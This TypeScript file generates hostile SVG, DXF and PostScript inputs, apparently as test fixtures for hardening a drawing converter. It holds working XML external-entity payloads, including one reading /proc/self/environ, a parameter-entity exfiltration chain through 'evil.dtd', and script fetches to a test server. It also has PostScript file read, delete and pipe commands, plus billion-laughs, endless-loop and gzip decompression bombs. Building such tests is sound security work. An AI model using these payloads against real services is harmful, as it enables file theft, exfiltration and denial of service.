/** SVG files with external references and resource exhaustion. */
import { gzipSync } from 'node:zlib'
import { writeLinkingDxf } from '../support/drawings.ts'
import { type HostileFile, hostile, type Targets } from './hostile-file.ts'

const namespaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const size = 'width="60" height="40"'

function svg(content: string, prolog = ''): string {
  return `${prolog}<svg ${namespaces} ${size}>${content}</svg>`
}

export function drawingsWithExternalReferences(targets: Targets): HostileFile[] {
  const { http, http6, image: imagePath, text, unixSocket, otherJob } = targets
  const image = (href: string) => `<image href="${href}" xlink:href="${href}" ${size}/>`
  const entity = (declaration: string) => svg('<text y="20">&x;</text>', `<!DOCTYPE svg [${declaration}]>`)
  const nested = Buffer.from(svg(image(`file://${imagePath}`))).toString('base64')
  const drawing = (what: string, content: string) =>
    hostile('external', what, 'holiday photo.png', content, ['png', 'jpg'])
  return [
    drawing('svg: images on servers', svg(image(`${http}/a.png`) + image(`${http6}/a.png`))),
    drawing('svg: an image by its path', svg(image(imagePath) + image(`file://${imagePath}`))),
    drawing('svg: an image of another job', svg(image(otherJob.image) + image(`./${otherJob.image}`))),
    drawing(
      'svg: a shape in another file',
      svg(`<use href="${http}/b.svg#x"/><use href="file://${text}#x"/>`),
    ),
    drawing(
      'svg: external style sheets and paints',
      svg(
        `<style>@import url("${http}/c.css"); @font-face { font-family: f; src: url("${http}/f.woff") } rect { fill: url("${http}/d.svg#p"); filter: url("file://${text}#f") }</style><rect ${size}/><text font-family="f" y="20">a</text>`,
        `<?xml-stylesheet type="text/css" href="${http}/e.css"?>`,
      ),
    ),
    drawing('svg: an external entity on disk', entity(`<!ENTITY x SYSTEM "file://${text}">`)),
    drawing(
      'svg: an external entity in /proc/self/environ',
      entity('<!ENTITY x SYSTEM "file:///proc/self/environ">'),
    ),
    drawing('svg: an external entity on a server', entity(`<!ENTITY x SYSTEM "${http}/entity">`)),
    drawing(
      'svg: parameter entities that exfiltrate a file',
      entity(
        `<!ENTITY % f SYSTEM "file://${text}"><!ENTITY % d SYSTEM "${http}/evil.dtd"> %d; <!ENTITY x "%f;">`,
      ),
    ),
    drawing('svg: an external DTD', svg('<text y="20">a</text>', `<!DOCTYPE svg SYSTEM "${http}/svg.dtd">`)),
    drawing(
      'svg: text by XInclude',
      svg(
        `<text y="20"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${text}" parse="text"/></text>`,
      ),
    ),
    drawing('svg: an svg in a data URL', svg(image(`data:image/svg+xml;base64,${nested}`))),
    drawing(
      'svg: HTML in a foreignObject',
      svg(
        `<foreignObject ${size}><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://${text}"/></foreignObject><script href="${http}/s.js"/><script>fetch("${http}/run")</script>`,
      ),
    ),
    drawing('svg: a local Unix socket', svg(image(`unix://${unixSocket}`) + image(`file://${unixSocket}`))),
    hostile(
      'external',
      'dxf: an image and a drawing by their paths',
      'plan.dxf',
      writeLinkingDxf([imagePath, `${http}/a.dxf`, otherJob.image]),
    ),
    hostile(
      'external',
      'ps: files, pipes and programs',
      'letter.ps',
      postScript(
        [
          `(${text}) (r) file 100 string readstring pop show`,
          `(${text}) run`,
          `(%pipe%cat ${text}) (r) file`,
          `(${otherJob.text}) (w) file`,
          `(${text}) deletefile`,
          `(${text}) (${text}2) renamefile`,
          `(*) {show} 100 string filenameforall`,
          `/${text} /Font findresource`,
        ].map(line => `{${line}} stopped clear`),
      ),
      ['eps', 'ai'],
    ),
    {
      ...drawing('svgz: an image by its path', ''),
      content: gzipSync(svg(image(`file://${imagePath}`))),
    },
  ]
}

function postScript(lines: readonly string[]): string {
  return ['%!PS-Adobe-3.0 EPSF-3.0', '%%BoundingBox: 0 0 60 40', '0 0 9 9 rectfill', ...lines].join('\n')
}

function postScriptBombs(): HostileFile[] {
  const bomb = (what: string, ...lines: string[]) =>
    hostile('bomb', what, 'drawing.eps', postScript(lines), ['ps'])
  return [
    bomb('ps: an endless loop that catches its errors', '{ { {} loop } stopped pop } loop'),
    bomb('ps: arrays without end', '/a [] def { /a [ a 1000000 array ] def } loop'),
    bomb('ps: dictionaries in every saved state', '{ save userdict 1 index 2 copy put pop } loop'),
    bomb('ps: recursion without end', '/f { f 1 } def f'),
    bomb('ps: nested procedures without end', '{'.repeat(1_000_000)),
    bomb('ps: a path without end', '0 0 moveto { 1 1 rlineto } loop'),
    bomb('ps: pages without end', '{ 0 0 9 9 rectfill showpage } loop'),
    bomb('ps: an image of a billion pixels', '100000 100000 8 matrix { <00> } image'),
    bomb(
      'ps: a pattern inside of itself',
      '/p << /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1e-6 1e-6] /XStep 1e-6 /YStep 1e-6 /PaintProc { pop /Pattern setcolorspace p setcolor 0 0 1 1 rectfill } >> matrix makepattern def /Pattern setcolorspace p setcolor 0 0 60 40 rectfill',
    ),
    bomb('ps: clips within clips', '{ 0 0 moveto 60 0 lineto 30 40 lineto closepath clip } loop'),
    bomb(
      'ps: a font that shows itself',
      '/F << /FontType 3 /FontMatrix matrix /Encoding StandardEncoding /BuildChar { pop pop 1 0 setcharwidth 0 0 moveto (aa) show } >> definefont setfont 0 0 moveto (aa) show',
    ),
    bomb(
      'ps: numbers out of range',
      '1e30 1e30 scale 1e30 setlinewidth 0 0 moveto 1e30 1e30 lineto stroke 0 0 1e300 0 360 arc fill',
    ),
  ]
}

export function drawingBombs(): HostileFile[] {
  const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`)
  const bomb = (what: string, content: string | Buffer) => hostile('bomb', what, 'drawing.svg', content)
  const copies = Array.from(
    { length: 18 },
    (_, n) => `<g id="g${n + 1}"><use href="#g${n}"/><use href="#g${n}" x="1"/></g>`,
  )
  return [
    bomb(
      'svg: a billion laughs',
      svg('<text>&e12;</text>', `<!DOCTYPE svg [<!ENTITY e0 "ha">${laughs.join('')}]>`),
    ),
    bomb(
      'svg: a blur with an infinite radius',
      svg(
        `<filter id="b" x="-9e9" y="-9e9" width="9e9" height="9e9"><feGaussianBlur stdDeviation="1e9"/><feMorphology operator="dilate" radius="1e9"/><feTurbulence numOctaves="1000000"/></filter><rect filter="url(#b)" ${size}/>`,
      ),
    ),
    bomb('svg: exponentially nested use elements', svg(`<g id="g0"><rect ${size}/></g>${copies.join('')}`)),
    bomb(
      'svg: a shape that uses itself',
      svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    ),
    bomb(
      'svg: deeply nested groups',
      `<svg ${namespaces} ${size}>${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}</svg>`,
    ),
    bomb(
      'svg: infinite dimensions',
      `<svg ${namespaces} width="1e30" height="1e30"><rect width="9" height="9"/></svg>`,
    ),
    bomb('svg: zero dimensions', `<svg ${namespaces} width="0" height="0"/>`),
    bomb(
      'svg: a pattern with infinitely small tiles',
      svg(
        '<pattern id="p" width="1e-9" height="1e-9" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect width="60" height="40" fill="url(#p)"/><path stroke-dasharray="1e-9" stroke="#000" d="M0 0H60V40"/>',
      ),
    ),
    ...postScriptBombs(),
    bomb('svgz: 80 megabytes of spaces', gzipSync(Buffer.from(svg(' '.repeat(80 * 1024 * 1024))))),
  ]
}
